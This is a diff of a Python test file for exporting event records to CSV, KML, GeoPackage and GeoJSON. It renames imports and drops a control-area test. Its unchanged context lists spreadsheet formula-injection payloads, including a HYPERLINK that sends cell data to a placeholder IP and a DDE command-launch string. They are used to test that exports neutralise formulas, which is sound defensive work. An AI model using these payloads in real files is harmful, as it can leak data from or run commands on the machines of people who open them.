@@ -9,9 +9,8 @@ import pandas as pd
 import pyogrio
 import pytest
 
-from events import exports, model, query
+from events import exports, labels, model, query
 from events.curated import load_curated
-from geo import mapview
 from tests.events.factory import rows
 
 K = "{http://www.opengis.net/kml/2.2}"
@@ -86,7 +85,7 @@ FORMULAS = ['=HYPERLINK("http://198.51.100.9/?x="&A1,"click")', "+cmd|' /C calc'
 def test_csv_cells_cannot_run_as_formulas_and_still_reimport(mixed, tmp_path):
     """Issue 9: formula cells are neutralised with a leading apostrophe in every CSV we write; our
     importer drops it again, so the exported file re-imports with the same text."""
-    from events import importers
+    from events import sources
 
     hostile = mixed.assign(notes=FORMULAS[:3], place=FORMULAS[3:] + ["Tuz Khurmatu"], actor1="=1+1")
     content = exports.to_csv(hostile)
@@ -96,7 +95,7 @@ def test_csv_cells_cannot_run_as_formulas_and_still_reimport(mixed, tmp_path):
     assert back.loc[0, "notes"] == "'" + FORMULAS[0] and back.loc[0, "lat"] == str(mixed.loc[0, "lat"])
     path = tmp_path / "export.csv"
     path.write_bytes(content)
-    res = importers.read_file(path, source="table")
+    res = sources.read_file(path, source="table")
     assert res.rejects.empty, res.rejects.to_string()
     assert sorted(res.accepted["notes"].dropna()) == sorted(FORMULAS[:3])
     assert set(res.accepted["actor1"]) == {"=1+1"}
@@ -157,7 +156,7 @@ def test_kml_placemarks_have_time_spans_and_shared_styles(curated):
         assert pm.findtext(f"{K}TimeSpan/{K}begin") == rec["date_start"]
         assert pm.findtext(f"{K}TimeSpan/{K}end") == rec["date_end"]
         style = styles[pm.findtext(f"{K}styleUrl").removeprefix("#")]
-        colour = mapview.EVENT_COLOURS[rec["event_type"]].lstrip("#")
+        colour = labels.EVENT_COLOURS[rec["event_type"]].lstrip("#")
         icon_colour = style.findtext(f"{K}IconStyle/{K}color")
         assert icon_colour[2:] == colour[4:6] + colour[2:4] + colour[0:2]
         approximate = int(rec["geo_precision"]) >= 2
@@ -217,18 +216,7 @@ def test_gpkg_reads_back_with_typed_columns(mixed, tmp_path):
     assert "ACLED" in description
 
 
-# -- control areas, dispatch, errors ------------------------------------------------------------------
-
-def test_control_areas_export_as_geojson():
-    from geo import control
-
-    areas = control.control_at("2015-01-01")
-    doc = json.loads(exports.control_to_geojson(areas), parse_constant=lambda c: pytest.fail(c))
-    assert sorted(f["properties"]["area_id"] for f in doc["features"]) == sorted(areas["area_id"])
-    assert all(isinstance(f["properties"]["sources"], list) for f in doc["features"])
-    with pytest.raises(exports.ExportError, match="no control areas"):
-        exports.control_to_geojson(areas.iloc[0:0])
-
+# -- dispatch, errors ---------------------------------------------------------------------------------
 
 @pytest.mark.parametrize("fmt, extension, mime, magic", [
     ("csv", ".csv", "text/csv", b"\xef\xbb\xbfincident_id,"),
